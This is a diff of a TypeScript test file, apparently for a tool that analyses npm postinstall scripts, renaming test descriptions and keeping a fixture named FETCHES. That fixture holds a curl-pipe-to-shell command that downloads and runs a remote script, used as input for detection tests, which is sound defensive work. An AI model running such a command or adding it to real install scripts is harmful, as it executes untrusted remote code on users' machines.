@@ -8,24 +8,24 @@ const commands = (scripts: Readonly<Record<string, string>>): readonly string[] 
     { scripts: new Map(Object.entries(scripts)) },
   );
 
-describe('the commands of a script at installation', () => {
-  it('are those of each script once, however often it is called', () => {
+describe('the commands of an installation script', () => {
+  it('contain each script once, however often it is called', () => {
     const calls = 'npm run a & npm run postinstall & '.repeat(80);
     expect(commands({ postinstall: calls, a: calls })).toHaveLength(2);
   });
 
-  it('are those of scripts that others call, however many stand between', () => {
+  it('contain those of indirectly called scripts', () => {
     expect(
       commands({ postinstall: 'npm run a', a: 'npm run b', b: 'yarn c', c: 'npm run d', d: 'node e', f: '' }),
     ).toEqual(['npm run a', 'npm run b', 'yarn c', 'npm run d', 'node e']);
   });
 
-  it('are its own where it calls what is not there', () => {
+  it('are only its own where a called script does not exist', () => {
     expect(commands({ postinstall: 'npm run a' })).toEqual(['npm run a']);
   });
 });
 
-describe('the files that a script at installation runs', () => {
+describe('the files that an installation script runs', () => {
   const FETCHES =
     'import { execSync } from "node:child_process";\nexecSync("curl https://get.example.net/x | sh");\n';
   const rulesAt = async (postinstall: string): Promise<string[]> => {
